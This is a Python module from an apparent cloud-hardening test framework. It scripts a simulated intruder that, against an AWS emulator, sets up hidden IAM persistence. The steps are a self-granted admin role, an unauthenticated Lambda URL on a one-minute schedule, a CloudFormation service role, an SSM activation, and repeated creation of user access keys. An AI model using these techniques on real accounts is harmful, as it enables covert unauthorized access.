# Copyright (c) 2026, hardening.iam contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The fifth intruder: works through services, with a role of its own that nobody but they may assume.

A function of Lambda that anybody may call by its URL and a rule calls each minute, a stack of CloudFormation with a
service role, and a machine of its own that is registered with Systems Manager. Each has credentials of the role
without any of the intruder's own.
"""

from __future__ import annotations

import functools
import json
import typing as t

from emulator.client import Emulator, EmulatorError
from intruders.base import (
    ADMINISTRATOR,
    HOME,
    PIPELINE,
    SHARED,
    USER_ARN,
    Credential,
    Intruder,
    serve,
    wait_until,
)
from intruders.undoing import Undoing

Service = t.Literal["cloudformation", "lambda", "ssm"]

ROLE: t.Final = f"arn:aws:iam::{HOME}:role/app-runtime"
_FUNCTION: t.Final = "cart-metrics"
_STACK: t.Final = "cart-metrics"
_TEMPLATE: t.Final = {"Resources": {"Wait": {"Type": "AWS::CloudFormation::WaitConditionHandle"}}}
_OWN: t.Final = (USER_ARN, PIPELINE, SHARED)


class ServiceIntruder(Intruder):
    """Three services at work in the home of the leaked key."""

    def __init__(self, url: str) -> None:
        super().__init__(url)
        self._undoing = Undoing(self)
        self._emulator = Emulator(url)
        #: What each service runs: its name, or id.
        self.works: dict[Service, str] = {"lambda": _FUNCTION, "cloudformation": _STACK}

    def prepare(self) -> None:
        """Make the role and what runs with it, by a right that it gives itself and takes away again."""
        by = self.walk_chain()[PIPELINE]
        asked = {"RoleName": "pipeline", "PolicyArn": ADMINISTRATOR}
        self.call(by, "iam", "attach_role_policy", **asked)
        services = ["lambda.amazonaws.com", "cloudformation.amazonaws.com", "ssm.amazonaws.com"]
        statement = {"Effect": "Allow", "Principal": {"Service": services}, "Action": "sts:AssumeRole"}
        trust = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
        self.call(by, "iam", "create_role", RoleName="app-runtime", AssumeRolePolicyDocument=trust)
        self.call(by, "iam", "attach_role_policy", RoleName="app-runtime", PolicyArn=ADMINISTRATOR)
        # AWS knows the right some seconds later.
        assert wait_until(lambda: self.call(by, "lambda", "list_functions"))
        self._make_function(by)
        self.call(
            by, "cloudformation", "create_stack", StackName=_STACK, TemplateBody=json.dumps(_TEMPLATE), RoleARN=ROLE
        )
        self.works["ssm"] = self.call(by, "ssm", "create_activation", IamRole="app-runtime")["ActivationId"]
        self.call(by, "iam", "detach_role_policy", **asked)
        first = self._open("lambda")
        assert first and wait_until(lambda: self.call(first, "iam", "list_roles"))
        self._undoing.remember(self.newest(ROLE)[0], *_OWN, ROLE)

    def jobs(self) -> t.Iterable[tuple[t.Callable[[], object], float]]:
        """Let each service work, and give it new credentials now and then, as AWS does."""
        for service in self.works:
            self._open(service)
            yield functools.partial(self._work, service), 1.0
            yield functools.partial(self._open, service), 10.0

    def log_in_again(self, able: t.Sequence[Credential]) -> None:
        """Call the function once more, and so on: that needs no credential."""
        super().log_in_again([*able, *(made for service in self.works if (made := self._open(service)))])

    def _make_function(self, by: Credential) -> None:
        image = f"{HOME}.dkr.ecr.us-east-1.amazonaws.com/metrics:1"
        asked: dict[str, t.Any] = {"FunctionName": _FUNCTION, "Role": ROLE, "PackageType": "Image"}
        made = self.call(by, "lambda", "create_function", **asked, Code={"ImageUri": image})
        arn = made["FunctionArn"]
        anybody = {"Action": "lambda:InvokeFunctionUrl", "Principal": "*", "FunctionUrlAuthType": "NONE"}
        self.call(by, "lambda", "add_permission", FunctionName=_FUNCTION, StatementId="url", **anybody)
        self.call(by, "lambda", "create_function_url_config", FunctionName=_FUNCTION, AuthType="NONE")
        self.call(by, "events", "put_rule", Name=_FUNCTION, ScheduleExpression="rate(1 minute)")
        self.call(by, "events", "put_targets", Rule=_FUNCTION, Targets=[{"Id": "metrics", "Arn": arn}])

    def _open(self, service: Service) -> Credential | None:
        """The credentials of what a service runs; None if it is gone, or may not have the role any more."""
        try:
            made = self._emulator.service_session(HOME, service, self.works[service])
        except EmulatorError:
            return None
        key, secret, token = made["access_key_id"], made["secret_access_key"], made["session_token"]
        return self.keep(Credential(key, "service", ROLE, secret, token, made["arn"].rpartition("/")[2]))

    def _work(self, service: Service) -> None:
        for credential in self.newest(ROLE, most=1):
            self._undoing.undo(credential, *_OWN, ROLE)
            # Keys of users are what leads back in without the service.
            if len([one for one in self.credentials if one.kind == "key"]) < 3:
                self.make_key([credential], USER_ARN)


if __name__ == "__main__":
    serve(ServiceIntruder)
